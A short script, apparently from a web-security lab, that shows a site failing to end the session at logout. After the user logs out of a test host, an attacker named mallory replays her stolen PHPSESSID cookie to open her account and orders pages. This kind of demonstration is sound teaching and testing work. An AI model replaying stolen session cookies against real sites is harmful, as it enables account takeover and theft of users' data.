# The site forgets to end the session at logout: a stolen cookie still works afterwards.
record server eth0
browser alice
login alice alice http://club.test
browse alice click '#orders'
stolen=$(browse alice cookie PHPSESSID http://club.test/)
browse alice click '#logout'
sleep 8

http mallory -b "PHPSESSID=$stolen" http://club.test/account
sleep 1
http mallory -b "PHPSESSID=$stolen" http://club.test/orders
